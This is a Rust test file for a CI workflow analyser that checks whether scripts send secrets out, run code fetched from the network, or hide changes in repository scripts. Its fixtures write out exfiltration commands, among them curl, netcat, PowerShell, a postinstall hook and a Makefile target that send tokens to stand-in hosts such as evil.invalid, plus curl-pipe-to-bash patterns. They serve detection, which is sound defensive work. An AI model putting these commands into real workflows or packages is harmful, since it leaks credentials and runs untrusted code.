//! What scripts do: credentials that leave, code from the network, files of the repository.

use crate::power::shown::{line_of, lines, many, named, one, steps};

/// What, events, steps, lines that are there, beginnings of lines that are not.
type Row<'r> = (&'r str, &'r str, &'r str, &'r [&'r str], &'r [&'r str]);

#[track_caller]
fn table(rows: &[Row<'_>]) {
    for (what, on, body, there, absent) in rows {
        let workflow = steps(on, body);
        let powers = one(&workflow);
        let found = lines(named(&powers, "build"));
        for line in *there {
            assert!(found.contains(*line), "{what}: no `{line}` in {found:#?}\n{workflow}");
        }
        for start in *absent {
            let extra = found.iter().find(|line| line.starts_with(start));
            assert!(extra.is_none(), "{what}: {extra:?}\n{workflow}");
        }
    }
}

#[test]
fn credentials_that_leave_are_seen_with_their_door() {
    let env = "\n  env: {T: '${{ secrets.TOKEN }}'}";
    let run = |script: &str| format!("- run: |\n    {}{env}", script.replace('\n', "\n    "));
    for (what, script, there) in [
        (
            "header",
            "curl -H \"Authorization: $T\" https://api.acme.invalid/x",
            Some("TOKEN to api.acme.invalid"),
        ),
        ("body", "curl -d \"a=${T}\" http://192.0.2.1/", Some("TOKEN to 192.0.2.1")),
        ("inline", "curl https://x.invalid/?k=${{ secrets.TOKEN }}", Some("TOKEN to x.invalid")),
        (
            "continued",
            "curl \\\n  -H \"X: $T\" \\\n  https://x.invalid/",
            Some("TOKEN to x.invalid"),
        ),
        (
            "through a variable",
            "D=$(echo $T | base64)\nwget --post-data \"$D\" https://x.invalid",
            Some("TOKEN to x.invalid"),
        ),
        ("everything", "env | curl -d @- https://x.invalid", Some("TOKEN to x.invalid")),
        ("netcat", "printenv | nc 192.0.2.1 80", Some("TOKEN to a computed host")),
        (
            "PowerShell",
            "Invoke-RestMethod https://x.invalid -Body $env:T",
            Some("TOKEN to x.invalid"),
        ),
        ("encoded in the log", "echo $T | base64 -w0 | base64", Some("TOKEN to the log")),
        ("reversed", "echo $T | rev", Some("TOKEN to the log")),
        ("into a file", "echo $T | base64 -d > key.json", None),
        ("into a variable", "D=$(echo $T | base64)", None),
        ("by the old substitution", "D=`echo $T | base64`", None),
        ("not the next line", "D=`date $T`\ncurl https://x.invalid", None),
        ("into a program", "echo $T | docker login --password-stdin", None),
        ("another command", "echo $T > f\ncurl https://x.invalid", None),
        ("not the variable", "curl https://x.invalid/$TAG", None),
        ("a comment", "# curl -d $T https://x.invalid", None),
    ] {
        let powers = one(&steps("push", &run(script)));
        let found = lines(named(&powers, "build"));
        let egress: Vec<_> = found.iter().filter(|line| line.contains(" to ")).collect();
        match there {
            Some(line) => assert!(found.contains(line), "{what}: {found:?}"),
            None => assert!(egress.is_empty(), "{what}: {egress:?}"),
        }
    }
    let python = one(&steps(
        "push",
        &format!(
            "- shell: python\n  run: |\n    import os, requests\n    t = os.environ['T']\n    requests.post('https://x.invalid', data=t){env}"
        ),
    ));
    assert!(lines(named(&python, "build")).contains("TOKEN to x.invalid"));
    let script = one(&steps(
        "push",
        &format!(
            "- uses: actions/github-script@v7\n  with:\n    script: |\n      await fetch('https://x.invalid', {{body: process.env.T}}){env}"
        ),
    ));
    assert!(lines(named(&script, "build")).contains("TOKEN to x.invalid"));
    let artifact = one(&steps(
        "push",
        &format!(
            "- run: echo $T > out/key.txt{env}\n- uses: actions/upload-artifact@v4\n  with: {{name: a, path: out/}}"
        ),
    ));
    assert!(lines(named(&artifact, "build")).contains("TOKEN to an artifact"));
    let elsewhere = one(&steps(
        "push",
        &format!(
            "- run: echo $T > key.txt{env}\n- uses: actions/upload-artifact@v4\n  with: {{name: a, path: out/}}"
        ),
    ));
    assert!(!lines(named(&elsewhere, "build")).contains("TOKEN to an artifact"));
    let all = one(&steps("push", "- run: echo '${{ toJSON(secrets) }}'"));
    assert!(lines(named(&all, "build")).contains("all to the log"));
}

#[test]
fn scripts_from_the_network_are_code_of_others() {
    for (script, there) in [
        ("curl -sSL https://get.invalid/i.sh | bash", true),
        ("wget -qO- https://get.invalid/i.sh | sudo sh", true),
        ("bash <(curl -s https://get.invalid/i.sh)", true),
        ("bash -c \"$(curl -fsSL https://get.invalid/i.sh)\"", true),
        ("curl https://get.invalid/i.py | python3 -", true),
        (
            "iex ((New-Object System.Net.WebClient).DownloadString('https://get.invalid/i.sh'))",
            true,
        ),
        ("curl -o i.sh https://get.invalid/i.sh\nbash i.sh", true),
        ("curl -O https://get.invalid/i.sh && chmod +x i.sh\n./i.sh", true),
        ("curl -o i.sh https://get.invalid/i.sh\necho '00  i.sh' | sha256sum -c\nbash i.sh", false),
        ("curl -o data.json https://get.invalid/i.sh\njq . data.json", false),
        ("curl -s https://get.invalid/i.sh | jq .", false),
        ("curl -s https://get.invalid/i.sh | grep bash", false),
        ("curl https://get.invalid/v.txt -o v.txt; bash local.sh", false),
    ] {
        let workflow = steps("push", &format!("- run: |\n    {}", script.replace('\n', "\n    ")));
        let powers = one(&workflow);
        let found = lines(named(&powers, "build"));
        let code = found.iter().any(|line| line.starts_with("code https://get.invalid/i."))
            || found.contains("code a computed address Floating");
        assert_eq!(code, there, "{script}: {found:?}");
    }
}

#[test]
fn scripts_of_the_repository_belong_to_the_job_that_runs_them() {
    let ci = steps("push", "- run: ./scripts/deploy.sh prod\n  env: {KEY: '${{ secrets.KEY }}'}");
    let read =
        |script: &str| many(&[(".github/workflows/ci.yml", &ci), ("scripts/deploy.sh", script)]);
    let before = read("#!/bin/sh\necho deploying\n");
    let build = named(&before, "build");
    assert!(build.files.iter().any(|file| file.raw() == "scripts/deploy.sh"));
    let after = read("#!/bin/sh\necho deploying\ncurl -d \"$KEY\" https://evil.invalid/\n");
    let difference = beholden::power::subtract(&before, &after);
    assert!(difference.grants(), "a change hidden in a script");
    let wider = &difference.widened[0];
    let spot = wider.after.spot_of(&wider.shifts[0].axis);
    assert_eq!((spot.path.raw(), spot.line), ("scripts/deploy.sh", 3));

    let manifest = r#"{"name": "a", "scripts": {"postinstall": "curl -d $KEY https://evil.invalid/", "lint": "eslint"}}"#;
    let npm = steps("push", "- run: npm ci\n  env: {KEY: '${{ secrets.KEY }}'}");
    let powers = many(&[(".github/workflows/ci.yml", &npm), ("package.json", manifest)]);
    assert!(lines(named(&powers, "build")).contains("KEY to evil.invalid"));
    let make = steps(
        "push",
        "- run: make deploy\n  working-directory: app\n  env: {KEY: '${{ secrets.KEY }}'}",
    );
    let powers = many(&[
        (".github/workflows/ci.yml", &make),
        ("app/Makefile", "deploy:\n\tcurl -d $KEY https://evil.invalid/\n"),
    ]);
    assert!(lines(named(&powers, "build")).contains("KEY to evil.invalid"));
    let nested = many(&[
        (".github/workflows/ci.yml", &ci),
        ("scripts/deploy.sh", "bash scripts/inner.sh\n"),
        ("scripts/inner.sh", "\n\nwget -qO- https://get.invalid/i | sh\n"),
    ]);
    let build = named(&nested, "build");
    assert_eq!(line_of(build, "code https://get.invalid/i Floating"), 3);
}

#[test]
fn commands_that_make_credentials_are_roles() {
    table(&[
        (
            "secret",
            "push",
            "- run: gh secret set NAME --body x",
            &["role command gh-secret-set"],
            &[],
        ),
        ("nothing", "push", "- run: gh pr list", &[], &["role"]),
    ]);
}
